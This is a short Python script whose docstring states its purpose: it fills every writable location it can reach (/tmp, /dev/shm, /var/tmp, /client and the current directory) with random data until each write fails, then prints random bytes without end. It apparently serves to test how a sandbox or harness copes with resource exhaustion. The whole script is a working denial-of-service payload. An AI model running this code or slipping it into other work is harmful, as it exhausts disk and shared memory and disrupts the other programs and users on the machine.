"""Fills every place that it may write to, and then prints without end."""

import os
import sys

PIECE = os.urandom(1 << 16)
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/client", "."):
    try:
        with open(f"{folder}/filler", "wb", buffering=0) as file:
            while True:
                file.write(PIECE)
    except OSError:
        pass
while True:
    os.write(sys.stdout.fileno(), PIECE)
